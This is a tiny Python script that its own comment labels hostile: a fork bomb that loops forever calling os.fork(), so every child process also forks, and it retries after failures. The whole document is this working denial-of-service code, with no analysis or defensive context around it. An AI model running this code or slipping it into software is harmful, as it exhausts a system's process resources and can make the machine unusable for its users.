# Hostile: forks without end; every child keeps forking.
import os, time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
